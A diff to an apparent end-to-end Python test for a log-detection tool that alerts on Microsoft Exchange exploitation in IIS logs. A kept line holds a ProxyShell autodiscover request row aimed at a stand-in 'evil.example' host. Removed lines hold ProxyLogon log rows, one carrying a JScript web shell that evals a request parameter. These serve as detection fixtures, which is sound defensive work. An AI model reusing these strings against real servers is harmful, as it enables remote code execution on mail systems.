@@ -2,8 +2,9 @@
 attack lines go through `weir run`; the alerts topic must hold exactly the expected alerts
 (count and content) and the group's committed offsets must account for every event.
 
-The expected rule ids below were written by reading patterns/exchange-web.rules, not by
-running weir.
+The expected rule ids below were written by reading tests/fixtures/e2e/exchange-web.yml, not
+by running weir. The stream is an IIS one, as a topic per log type is how Exchange logs are
+shipped; the other Exchange log formats are covered by the rule-pack fixtures.
 """
 import random
 import re
@@ -11,7 +12,7 @@ import subprocess
 import sys
 import time
 
-from weirtest import (ALERT_KEYS, PATTERNS, WEIR, Broker, committed, decode_alert, end_offsets,
+from weirtest import (ALERT_KEYS, E2E_RULES, WEIR, Broker, committed, decode_alert, end_offsets,
                       log, produce, read_all)
 
 N_EVENTS = 10_000
@@ -55,16 +56,6 @@ ATTACKS = [
      "?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&Email=autodiscover/autodiscover.json%3F@evil."
      "example&CorrelationID=<empty>; 443 - 192.0.2.77 python-requests/2.26.0 - 200 0 0 64",
      {"proxyshell-autodiscover"}),
-    # real HttpProxy attack row (detection-facts §9.1, S18)
-    ('"2021-03-03T06:49:46.210Z","xxx","130.255.189.21","mail.xxx.no","/ecp/y.js",'
-     '"X-BEResource-Cookie","python-requests/2.25.1","ServerInfo~a]@servernavn.xxx.local:444/ecp/'
-     'proxyLogon.ecp?#","241"',
-     {"proxylogon-serverinfo"}),
-    # real ECP Server log row (detection-facts §9.1, S18)
-    ("2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script "
-     "language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456"
-     "\"\"],\"\"unsafe\"\");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''",
-     {"proxylogon-27065-markup"}),
 ]
 
 # look-alikes that must stay silent
@@ -78,8 +69,6 @@ LOOKALIKES = [
     "172.16.0.9 Mozilla/5.0 - 200 0 0 5",
     "2021-03-03 07:00:04 10.0.0.11 POST /autodiscover/autodiscover.xml - 443 bob 172.16.0.7 "
     "Microsoft+Office/16.0 - 200 0 0 9",
-    "2021-03-03T07:00:05.000Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''https://mail.contoso.com/"
-    "OAB''.Identity=''x'''",
 ]
 
 STEMS = ["/owa/", "/owa/service.svc", "/EWS/Exchange.asmx", "/mapi/emsmdb/",
@@ -125,7 +114,7 @@ def main():
         t0 = time.time()
         r = subprocess.run([WEIR, "run", "--brokers", b.bootstrap, "--topic", "iis",
                             "--alerts-topic", "alerts", "--group", "skeleton",
-                            "--rules", PATTERNS, "--exit-eof"],
+                            "--rules", E2E_RULES, "--exit-eof"],
                            stderr=subprocess.PIPE, text=True, timeout=180)
         log(f"weir run exited {r.returncode} after {time.time() - t0:.1f} s")
         if r.returncode != 0:
@@ -158,6 +147,12 @@ def main():
             for rule in a["rules"]:
                 assert set(rule) == {"id", "title", "level", "tags"}
                 assert rule["level"] in {"low", "medium", "high", "critical"}
+                assert rule["tags"] and all(isinstance(t, str) for t in rule["tags"])
+            # the parsed fields the rules tested, by ECS name, e.g. url.path for cs-uri-stem
+            f = a["fields"]
+            assert f and set(f) <= {"http.request.method", "url.path", "cs-uri-query"}, f
+            if "url.path" in f:
+                assert f["url.path"] in events[idx], (f, events[idx])
             # alerts of one input partition are keyed to one alerts partition, in order
         missing = set(expected) - set(seen)
         assert not missing, f"{len(missing)} expected alerts missing, e.g. {events[min(missing)]!r}"
